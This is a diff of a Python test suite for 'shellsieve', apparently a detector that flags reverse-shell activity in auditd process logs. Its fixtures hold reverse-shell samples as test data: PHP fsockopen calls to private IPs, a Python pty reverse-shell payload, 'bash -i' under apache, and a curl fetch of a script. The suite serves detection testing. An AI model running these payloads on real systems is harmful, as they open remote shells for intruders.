@@ -13,7 +13,7 @@ from typing import Any
 import msgspec
 import pytest
 
-from conftest import PHP_FSOCKOPEN, PYTHON_PTY, SHELL_VIA_WEB_SERVER, WEB_SERVER_CHILD, rule_ids
+from conftest import PHP_FSOCKOPEN, PYTHON_PTY, SHELL_VIA_WEB_SERVER, WEB_SERVER_CHILD, rule_ids, seed_rule_ids
 from format_samples import Exec, audit_exec
 from shellsieve.compile.ruleset import Ruleset
 from shellsieve.events.auditd import AuditAssembler, parse_record, to_ecs
@@ -183,8 +183,8 @@ class TestStream:
     def test_one_alert_per_command_on_the_execve_line(self, shipped: Ruleset) -> None:
         docs, stats = run_lines(shipped, [x.encode() for x in REAL])
         assert [d["message"] for d in docs] == REAL  # every record leaves, in order
-        alerts = [d for d in docs if rule_ids(d)]
-        assert len(alerts) == 1 and rule_ids(alerts[0]) == [PHP_FSOCKOPEN]
+        alerts = [d for d in docs if seed_rule_ids(d)]
+        assert len(alerts) == 1 and seed_rule_ids(alerts[0]) == [PHP_FSOCKOPEN]
         alert = alerts[0]
         assert alert["message"] == REAL[1]  # the EXECVE record carries the alert
         assert alert["process"]["args"] == ["php", "-r", PHP_CODE]  # with the parsed ECS fields
@@ -197,7 +197,7 @@ class TestStream:
         first = r.process(_block(REAL[:2]), now=0.0)
         assert first == b""  # held: the event is not complete
         out = _lines(r.process(_block(REAL[2:]), now=0.01))
-        assert [d["message"] for d in out] == REAL and rule_ids(out[1]) == [PHP_FSOCKOPEN]
+        assert [d["message"] for d in out] == REAL and seed_rule_ids(out[1]) == [PHP_FSOCKOPEN]
 
     def test_two_serials_interleaved(self, shipped: Ruleset) -> None:
         a = audit_exec(Exec(("php", "-r", '$s=fsockopen("10.10.10.10",9001);'), "/usr/bin/php", serial=500))
@@ -206,7 +206,7 @@ class TestStream:
         docs, stats = run_lines(shipped, [x.encode() for x in mixed])
         assert [d["message"] for d in docs] == mixed  # input order, not event order
         assert stats.audit_events == 2
-        alerts = [d for d in docs if rule_ids(d)]
+        alerts = [d for d in docs if seed_rule_ids(d)]
         assert len(alerts) == 1 and "a2=" in alerts[0]["message"] and ":500):" in alerts[0]["message"]
 
     def test_later_lines_wait_behind_an_open_event(self, shipped: Ruleset) -> None:
@@ -222,7 +222,7 @@ class TestStream:
         assert r.deadline() == pytest.approx(100.5)
         assert r.tick(100.4) == b""
         out = _lines(r.tick(100.5))
-        assert [d["message"] for d in out] == REAL[:-1] and rule_ids(out[1]) == [PHP_FSOCKOPEN]
+        assert [d["message"] for d in out] == REAL[:-1] and seed_rule_ids(out[1]) == [PHP_FSOCKOPEN]
         assert r.audit.timed_out == 1
 
     def test_truncated_record_loses_nothing(self, shipped: Ruleset) -> None:
@@ -236,24 +236,24 @@ class TestStream:
         assert [d["message"] for d in docs] == lines
         assert stats.malformed["not_audit_record"] == 1  # forwarded as {"message": ...} and counted
         assert stats.formats["auditd"] == len(lines) and stats.audit_events == 1
-        alert = next(d for d in docs if rule_ids(d))
+        alert = next(d for d in docs if seed_rule_ids(d))
         assert alert["message"] == cut and alert["auditd"]["truncated"] is True
         assert alert["process"]["args"][2] == '$sock=fsockopen("10.0.0.1",4242);' 
 
     def test_only_alerts_writes_one_line_per_alert(self, shipped: Ruleset) -> None:
         docs, _ = run_lines(shipped, [x.encode() for x in REAL], only_alerts=True)
-        assert len(docs) == 1 and rule_ids(docs[0]) == [PHP_FSOCKOPEN]
+        assert len(docs) == 1 and seed_rule_ids(docs[0]) == [PHP_FSOCKOPEN]
 
     def test_web_server_rules_fire_through_the_pid_table(self, shipped: Ruleset) -> None:
         child = Exec(("bash", "-i"), "/usr/bin/bash", uid=33, user="www-data", parent=APACHE)
         lines = audit_exec(APACHE) + audit_exec(child)
         docs, _ = run_lines(shipped, [x.encode() for x in lines], passwd=None)
-        alert = next(d for d in docs if rule_ids(d))
-        assert rule_ids(alert) == [SHELL_VIA_WEB_SERVER]
+        alert = next(d for d in docs if seed_rule_ids(d))
+        assert seed_rule_ids(alert) == [SHELL_VIA_WEB_SERVER]
         assert alert["process"]["parent"]["name"] == "apache2"
         # a table too small to remember the parent: the parent-based rule cannot fire
         docs, _ = run_lines(shipped, [x.encode() for x in lines], pid_table_size=0)
-        assert not any(rule_ids(d) for d in docs)
+        assert not any(seed_rule_ids(d) for d in docs)
 
     def test_multiline_python_payload(self, shipped: Ruleset) -> None:
         """Seed 001's tested payload spans lines; auditd hex-encodes the newlines, so it is one event."""
@@ -261,7 +261,7 @@ class TestStream:
                    '\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)];\npty.spawn("sh")')
         lines = audit_exec(Exec(("python", "-c", payload), "/usr/bin/python3.11", parent=BASH))
         docs, _ = run_lines(shipped, [x.encode() for x in lines])
-        assert [rule_ids(d) for d in docs if rule_ids(d)] == [[PYTHON_PTY]]
+        assert [seed_rule_ids(d) for d in docs if seed_rule_ids(d)] == [[PYTHON_PTY]]
 
     def test_passwd_file_names_the_user(self, shipped: Ruleset, tmp_path: Any) -> None:
         passwd = tmp_path / "passwd"
@@ -269,8 +269,8 @@ class TestStream:
         ex = Exec(("curl", "http://x/a.sh"), "/usr/bin/curl", uid=33, parent=APACHE)
         lines = [x.encode() for x in audit_exec(APACHE) + audit_exec(ex)]
         docs, _ = run_lines(shipped, lines, passwd=str(passwd))
-        alert = next(d for d in docs if rule_ids(d))
-        assert rule_ids(alert) == [WEB_SERVER_CHILD] and alert["user"] == {"id": "33", "name": "www-data",
+        alert = next(d for d in docs if seed_rule_ids(d))
+        assert seed_rule_ids(alert) == [WEB_SERVER_CHILD] and alert["user"] == {"id": "33", "name": "www-data",
                                                                            "effective": {"id": "33", "name": "www-data"},
                                                                            "audit": {"id": "1000"}}
 
@@ -287,8 +287,8 @@ def test_records_without_node_belong_to_this_host(shipped: Ruleset) -> None:
               connect=("10.10.10.10", 9001))
     lines = audit_exec(BASH, node=False) + audit_exec(ex, node=False) + audit_connect(ex, node=False)
     docs, _ = run_lines(shipped, [x.encode() for x in lines])
-    alerts = [d for d in docs if rule_ids(d)]
-    assert [rule_ids(d) for d in alerts] == [[REVERSE_SHELL_SEQUENCE]]
+    alerts = [d for d in docs if seed_rule_ids(d)]
+    assert [seed_rule_ids(d) for d in alerts] == [[REVERSE_SHELL_SEQUENCE]]
     assert alerts[0]["host"]["id"] == socket.gethostname()
 
 
@@ -309,14 +309,14 @@ class TestHostsInOneStream:
         lines = self._via_syslog("web-a", audit_exec(APACHE, node=False))
         lines += self._via_syslog("web-b", audit_exec(self.CHILD, node=False))
         docs, _ = run_lines(shipped, lines)
-        assert [rule_ids(d) for d in docs if rule_ids(d)] == []
+        assert [seed_rule_ids(d) for d in docs if seed_rule_ids(d)] == []
 
     def test_parent_on_the_same_host_is_found(self, shipped: Ruleset) -> None:
         """The same records from one syslog host: the child is apache2's, and the alert names the host."""
         lines = self._via_syslog("web-b", audit_exec(APACHE, node=False) + audit_exec(self.CHILD, node=False))
         docs, _ = run_lines(shipped, lines)
-        alerts = [d for d in docs if rule_ids(d)]
-        assert [rule_ids(d) for d in alerts] == [[WEB_SERVER_CHILD]]
+        alerts = [d for d in docs if seed_rule_ids(d)]
+        assert [seed_rule_ids(d) for d in alerts] == [[WEB_SERVER_CHILD]]
         assert alerts[0]["host"]["id"] == "web-b" and alerts[0]["process"]["parent"]["name"] == "apache2"
 
     @pytest.mark.parametrize("prefix", ["<14>Dec 14 04:00:00 {h} audispd[7]: ",
